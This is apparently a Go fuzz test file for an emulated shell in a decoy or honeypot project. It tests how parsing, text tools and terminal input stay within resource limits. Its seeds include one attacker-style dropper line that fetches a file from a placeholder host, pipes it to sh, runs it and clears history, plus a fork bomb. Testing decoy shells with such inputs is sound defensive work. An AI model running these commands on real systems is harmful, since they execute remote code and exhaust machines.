package shell_test

import (
	"bytes"
	"context"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/decnet/decnet/providers/decky/machine"
	"github.com/decnet/decnet/providers/decky/servicetest"
	"github.com/decnet/decnet/providers/decky/shell"
)

// small are limits that a fuzzed line reaches soon.
var small = shell.Limits{Steps: 3000, Depth: 24, Output: 64 << 10, Pipe: 64 << 10, Work: 2 << 20, Time: 2 * time.Second, Files: 16}

// bounded runs a line within small and tells of what went beyond.
func bounded(t testing.TB, host *machine.Machine, line, stdin string) string {
	t.Helper()
	s := shell.New(shell.Options{Machine: host, User: "root", Limits: small})
	var out bytes.Buffer
	began := time.Now()
	if _, err := s.Run(context.Background(), line, shell.ModeExec, strings.NewReader(stdin), &out, &out); err != nil {
		t.Fatal(err)
	}
	if took := time.Since(began); took > 10*time.Second {
		t.Errorf("%.200q took %s", line, took)
	}
	if out.Len() > small.Output+4096 {
		t.Errorf("%.200q said %d bytes", line, out.Len())
	}
	if used := host.FS.Used(); used < 0 || used > machine.FSQuota {
		t.Errorf("%.200q holds %d bytes", line, used)
	}
	return out.String()
}

// workshop is a machine that the runs of one fuzz target share: what is fuzzed
// there is a parser, not the files.
var workshop = sync.OnceValue(func() *machine.Machine { return machine.New(servicetest.Host(), nil, time.Now) })

// word is text as one word of the shell.
func word(text string) string { return "'" + strings.ReplaceAll(text, "'", `'\''`) + "'" }

func FuzzRun(f *testing.F) {
	for _, family := range []string{"plain", "quoting", "expand", "control"} {
		for i, c := range readCases(f, "testdata/cases/"+family+".txt").cases {
			if i%3 == 0 {
				f.Add(c.script)
			}
		}
	}
	f.Add(`cd /tmp || cd /var/run; wget http://192.0.2.1/x -O- | sh; chmod 777 x; ./x; rm -rf x; history -c`)
	f.Add(`cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'`)
	f.Add(`:(){ :|:& };:`)
	f.Fuzz(func(t *testing.T, line string) {
		if strings.Contains(line, "sleep") || strings.Contains(line, "ping") || len(line) > 4096 {
			return // it would only wait, or is longer than a terminal sends
		}
		bounded(t, machine.New(servicetest.Host(), nil, time.Now), line, "a b\nc\n")
	})
}

// fuzzWords fuzzes a command whose one word is a program of its own.
func fuzzWords(f *testing.F, before, after string, seeds ...string) {
	for _, s := range seeds {
		f.Add(s, "a b 1\nc:d 22\n\nfoo=bar\n")
	}
	f.Fuzz(func(t *testing.T, program, stdin string) {
		if len(program) > 2048 || len(stdin) > 4096 || strings.ContainsRune(program, 0) {
			return // beyond what the shell is given at once
		}
		bounded(t, workshop(), before+word(program)+after, stdin)
	})
}

func FuzzSed(f *testing.F) {
	fuzzWords(f, "sed -E ", "", `s/a\(b\)/\1&\n/2gpI`, `:a;N;$!ba;s/\n/,/g`, `1,/x/{p;=;l;y/ab/cd/}`, `$!{h;d};x;G`, "1i\\\nx\\\ny", `0~3d;2,~4p;1,+2!D;P;b`, `s/\(.\)/\u\1\L&\E/g;t;T x;:x`, `w /dev/stdout`, `r /etc/hostname`, `2q7`, `s//x/`)
}

func FuzzAwk(f *testing.F) {
	fuzzWords(f, "awk ", "", `{print $1, NF > "/dev/stderr"}`, `BEGIN {FS=":"; for (i=0;i<3;i++) a[i]=i; while (i-->0) print a[i]} /x/,/y/ {n++} END {print n}`, `function f(x) {return x<2?1:x*f(x-1)} {print f($3)}`, `{gsub(/[aeiou]/,"<&>"); sub(/^./,"\\&"); print length, substr($0,2,3)}`,
		`BEGIN {while (("seq 3" | getline l) > 0) s = s l; print s; close("seq 3"); printf "%5.2f|%-5s|%c|%d%%\n", 3.14, "x", 65, 7}`, `{$3="z"; NF=2; print; split($0,p,/[ :]/); delete p[1]; for (k in p) print k; if (("x","y") in p) next}`, `do i++; while (i<3) BEGIN{}`)
}

func FuzzGrep(f *testing.F) {
	fuzzWords(f, "grep -nE ", " - /etc/passwd", `^(a|b)+$`, `[[:alpha:]]{2,3}`, `(a+)+b`, `a{,2}`, `\<x\>`, `[]a]`, `[^]-z]*`, `\(`, `*`, `a||b`)
}

func FuzzBasicExpression(f *testing.F) {
	fuzzWords(f, "grep -o ", "", `\(a\|b\)\{2\}`, `^*a`, `[[:space:]]*$`, `a\+b\?`, `\.`, `[a\]`, `x\{1,`)
}

func FuzzFind(f *testing.F) {
	for _, seed := range []string{`-name *.txt -o -type d -print`, `( -size +1k -mtime -3 ) ! -perm /222 , -prune`, `-printf %p%f%TY\n -quit`, `-exec echo {} ;`, `-exec echo {} +`, `-regex .*\(a\|b\) -newer /etc/passwd -maxdepth 2`, `-depth -empty -links 1 -user root`} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, words string) {
		if len(words) > 1024 || strings.ContainsAny(words, "\x00") || strings.Contains(words, "delete") || strings.Contains(words, "exec") && !strings.Contains(words, "echo") {
			return // beyond what the shell is given at once
		}
		line := "find /etc"
		for w := range strings.FieldsSeq(words) {
			line += " " + word(w)
		}
		bounded(t, workshop(), line, "")
	})
}

func FuzzPattern(f *testing.F) {
	for _, seed := range [][2]string{{"a*b", "axxb"}, {"[[:alpha:]!x-]", "q"}, {"+(a|b*)@(c)", "abac"}, {"!(*a*)?(b)", "xb"}, {`\*[\]]`, "*]"}, {"*a*a*a*a*a*b", strings.Repeat("a", 200)}, {"*(*(*(a)))", strings.Repeat("a", 60)}} {
		f.Add(seed[0], seed[1])
	}
	f.Fuzz(func(t *testing.T, pattern, subject string) {
		if len(pattern)+len(subject) > 2048 || strings.ContainsRune(pattern+subject, 0) {
			return // beyond what the shell is given at once
		}
		bounded(t, workshop(), "p="+word(pattern)+" s="+word(subject)+"\n"+`case $s in $p) ;; esac; : ${s##$p} ${s%%$p} ${s//$p/x}; cd /etc; : $p`, "")
		if pattern == subject && !strings.ContainsAny(pattern, `*?[\`) && !strings.Contains(pattern, "(") {
			if out := bounded(t, workshop(), "case "+word(subject)+" in "+word(pattern)+") echo same;; esac", ""); out != "same\n" {
				t.Errorf("%q does not match itself", pattern)
			}
		}
	})
}

func FuzzArithmetic(f *testing.F) {
	for _, seed := range []string{"1+2*3", "x=5, x++ + ++x", "1?2:3", "16#ff", "a[1]=2", "2**63", "-1>>70", "((((1))))", "x=x", "0x", "08", "1/0", "~-!1"} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, expression string) {
		if len(expression) > 512 || strings.ContainsRune(expression, 0) {
			return // beyond what the shell is given at once
		}
		bounded(t, workshop(), "e="+word(expression)+"; echo $((e)); let \"$e\"; [[ $e -eq 1 ]]; declare -i n=$e; seq \"$e\" 1 3; expr \"$e\" + 1", "")
	})
}

func FuzzPrintf(f *testing.F) {
	for _, seed := range [][2]string{{`%5.2f|%-5s|%05d\n`, "3.14159"}, {`%b%q%c`, `a\tb\c`}, {`%*d %(%F)T`, "7"}, {`\x41\u00e9\0101`, ""}, {"%", "x"}, {"%z", "'A"}, {"%#x %+d % i", "0x1F"}} {
		f.Add(seed[0], seed[1])
	}
	f.Fuzz(func(t *testing.T, format, arg string) {
		if len(format)+len(arg) > 1024 || strings.ContainsRune(format+arg, 0) {
			return // beyond what the shell is given at once
		}
		bounded(t, workshop(), "printf "+word(format)+" "+word(arg)+" "+word(arg)+"; echo -e "+word(format)+"; echo $"+word(strings.ReplaceAll(arg, "'", ""))+"; date +"+word(format)+"; printf %q "+word(arg), "")
	})
}

func FuzzDate(f *testing.F) {
	for _, seed := range []string{"2024-02-29 12:34:56 +1 day", "@1700000000", "Jan 5 2024", "yesterday", "3 hours ago", "next monday", "20240105T101112Z", "10:30 2024-01-05"} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if len(text) > 256 || strings.ContainsRune(text, 0) {
			return // beyond what the shell is given at once
		}
		bounded(t, workshop(), "date -d "+word(text)+"; touch -d "+word(text)+" /tmp/dated; sleep 0"+word(strings.ReplaceAll(text, "inf", ""))[:1]+"'", "")
	})
}

func FuzzTest(f *testing.F) {
	for _, seed := range []string{"a = b -o ( ! -f /etc ) -a 1 -lt 2", "! ! !", "( )", "-z", "a -nt b", "1 -eq x", "a : b | c & ( 1 + 2 ) * 3"} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, words string) {
		if len(words) > 1024 || strings.ContainsRune(words, 0) {
			return // beyond what the shell is given at once
		}
		line := ""
		for w := range strings.FieldsSeq(words) {
			line += " " + word(w)
		}
		bounded(t, workshop(), "["+line+" ]; expr"+line+"; chmod"+line+" /tmp; sort -k"+strings.TrimLeft(line, " ")+"; cut -d: -f"+strings.TrimLeft(line, " "), "b:2\na:1\n")
	})
}

// FuzzDialects runs text in the three shells, with jobs and pipelines in it.
func FuzzDialects(f *testing.F) {
	for _, family := range []string{"jobs", "syntax", "builtins", "arrays"} {
		for i, c := range readCases(f, "testdata/cases/"+family+".txt").cases {
			if i%4 == 0 {
				f.Add(c.script, uint8(i))
			}
		}
	}
	f.Fuzz(func(t *testing.T, line string, which uint8) {
		if strings.Contains(line, "sleep") || strings.Contains(line, "ping") || strings.Contains(line, "read") || len(line) > 2048 {
			return // it would only wait, or is longer than a terminal sends
		}
		d := dialects[int(which)%len(dialects)]
		s := shell.New(shell.Options{Machine: workshop(), User: "root", Shell: d.login, Limits: small})
		var out bytes.Buffer
		began := time.Now()
		if _, err := s.Run(context.Background(), line, shell.ModeExec, strings.NewReader("a b\nc\n"), &out, &out); err != nil {
			t.Fatal(err)
		}
		if took := time.Since(began); took > 10*time.Second {
			t.Errorf("%.200q took %s", line, took)
		}
	})
}

// FuzzKeys types anything at a terminal, in the three shells.
func FuzzKeys(f *testing.F) {
	for _, seed := range []string{"echo a\x01b\x05\x0b\x19\r", "\x12e\r", "ls /e\t\t\r", "!!\r!x\r^a^b\r", "\x1b[200~a\rb\x1b[201~\r", "sleep 9\r\x1a\rbg\rfg\r\x03", "cat\rx\x04\x1b[A\x1b[D\x1b[3~\x14\x17\x15", "for i in 1 2\rdo echo\rdone\r", "read -s x\rabc\r"} {
		f.Add(seed, uint8(0))
		f.Add(seed, uint8(2))
	}
	f.Fuzz(func(t *testing.T, keys string, which uint8) {
		if len(keys) > 1024 {
			return
		}
		d := dialects[int(which)%len(dialects)]
		s := shell.New(shell.Options{Machine: workshop(), User: "root", TTY: "/dev/pts/0", Term: "xterm", Shell: d.login, Limits: small})
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		defer cancel()
		terminal := shell.NewTerminal(strings.NewReader(keys), writer(func([]byte) {}))
		began := time.Now()
		s.Interactive(ctx, terminal)
		terminal.Wait()
		if took := time.Since(began); took > 10*time.Second {
			t.Errorf("%.200q took %s", keys, took)
		}
	})
}
